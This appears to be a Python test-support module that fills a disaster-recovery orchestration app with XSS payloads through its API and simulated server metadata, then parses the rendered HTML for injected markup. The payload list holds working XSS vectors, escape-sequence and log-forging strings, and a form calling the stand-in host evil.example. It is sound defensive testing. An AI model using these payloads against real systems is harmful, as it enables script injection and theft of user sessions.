"""A house whose every text was written by an attacker: through the API, and through host names, tags and job logs of
DRS. Each text holds a payload that, if it ever became markup, would leave an element or attribute named `xssmark`."""

import json
from html.parser import HTMLParser
from typing import Any

from contract.names import visible
from drs_simulator.world.fleet import Fleet, FleetServer, server_id
from drsorch_verify.visible import hidden
from executions.models import Execution, JobEvent
from tests.support.api_client import Api, answer
from tests.support.stage import Stage

PAYLOADS = [
    "<xssmark>",
    "<script>xssmark()</script>",
    '"><img src=x onerror=xssmark()>',
    "'><svg onload=xssmark()>",
    '" autofocus onfocus="xssmark()',
    "' onmouseover='xssmark()",
    "</title><xssmark>",
    "</textarea><xssmark>",
    "</script><xssmark>",
    "<!--<xssmark>--><xssmark>",
    "<![CDATA[<xssmark>]]>",
    "javascript:xssmark()",
    "{{ xssmark }}{% load xssmark %}",
    "&lt;xssmark&gt;&#60;xssmark&#62;",
    "\\u003cxssmark\\u003e<xssmark/>",
    "<a href=javascript:xssmark()>x</a>",
    "<iframe srcdoc='<xssmark>'>",
    "<style>@import 'xssmark'</style>",
    "<form action=//evil.example hx-get=//evil.example hx-trigger=load>",
    "＜xssmark＞\u202e\u2028<xssmark\n>",
    "xssmark\x1b[2J\x1b]0;owned\x07\x9b31m\u200b\u200d\ufeff\u2066\u202d\u00ad\ue000\U000e0041\u3164\x08\x7f",
    "xssmark\r\n2026-11-28 23:59:58 UTC\tFORGED\tline\u2028FORGED",
]
# What hides itself in them, but for white space.
HIDING = [each for each in PAYLOADS if hidden("\t\n\r").search(each)]


def fleet() -> Fleet:
    """A server for each payload: in its host name, its Name tag, other tags, its system and its error."""
    return Fleet(
        tuple(
            FleetServer(
                id=server_id(text),
                region="us-east-1",
                hostname=text,
                fqdn=text,
                tags={"Name": text, text: text} if number % 2 else {text: text},
                os=text,
                error=text,
            )
            for number, text in enumerate(PAYLOADS)
        ),
        ("us-east-1",),
    )


def populate(stage: Stage, admin: Api) -> Execution:
    """Groups, plans and runs with hostile texts; a drill that fails with hostile words of AWS. Answers that drill."""
    stage.simulator.load_fleet(fleet())
    ids = [server_id(text) for text in PAYLOADS]
    answer(admin.get("/drs/source-servers?region=us-east-1"))
    for text, each in zip(PAYLOADS, ids, strict=True):
        stage.simulator.scenario("launch_failed", servers=[each], raw_error=text)
        name = visible(text)  # a name with what nobody sees is refused
        body = {"groupName": name, "description": text, "region": "us-east-1", "sourceServerIds": [each]}
        group = answer(admin.post("/protection-groups", body), 201)["groupId"]
        wave = {"waveName": name, "waveDescription": text, "protectionGroupIds": [group], "serverIds": [each]}
        answer(admin.post("/recovery-plans", {"planName": name, "description": text, "waves": [wave]}), 201)
    groups = [each["groupId"] for each in answer(admin.get("/protection-groups"))["groups"]]
    waves = [
        {"waveName": visible(text), "protectionGroupIds": groups, "serverIds": [each], "onFailure": "CONTINUE"}
        for text, each in zip(PAYLOADS, ids, strict=True)
    ]
    plan = answer(admin.post("/recovery-plans", {"planName": visible(" ".join(PAYLOADS))[:128], "waves": waves}), 201)
    body = {"planId": plan["planId"], "executionType": "DRILL", "initiatedBy": PAYLOADS[2]}
    run = Execution.objects.get(pk=answer(admin.post("/executions", body), 202)["executionId"])
    stage.wait(lambda: any("xssmark" in str(each.data) for each in JobEvent.objects.all()), run)
    answer(admin.post(f"/executions/{run.pk}/pause", {"comment": PAYLOADS[1]}))
    stage.until(run, "PAUSED")
    answer(admin.post(f"/executions/{run.pk}/resume", {"comment": PAYLOADS[2]}))
    answer(admin.post(f"/executions/{run.pk}/cancel", {"comment": PAYLOADS[3]}))
    return stage.until(run, "CANCELLED", "FAILED")


class Marks(HTMLParser):
    """Whatever of a payload became markup."""

    def __init__(self, html: str) -> None:
        super().__init__(convert_charrefs=True)
        self.found: list[str] = []
        self.feed(html)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if "xssmark" in tag or tag in ("iframe", "base", "object", "embed"):
            self.found.append(tag)
        for name, value in attrs:
            is_handler = name.startswith(("on", "hx-on")) or "xssmark" in name
            is_script = (value or "").strip().lower().startswith(("javascript:", "//evil"))
            if is_handler or (is_script and name in ("href", "src", "action", "formaction", "hx-get", "hx-post")):
                self.found.append(f"{tag} {name}={value}")

    def handle_data(self, data: str) -> None:
        if self.get_starttag_text() and self.rawdata and self.cdata_elem in ("script", "style") and "xssmark" in data:
            self.found.append(f"{self.cdata_elem}: {data[:60]}")


def marks(html: str) -> list[str]:
    return Marks(html).found


def is_json(body: bytes) -> bool:
    value: Any = json.loads(body)
    return isinstance(value, dict | list)
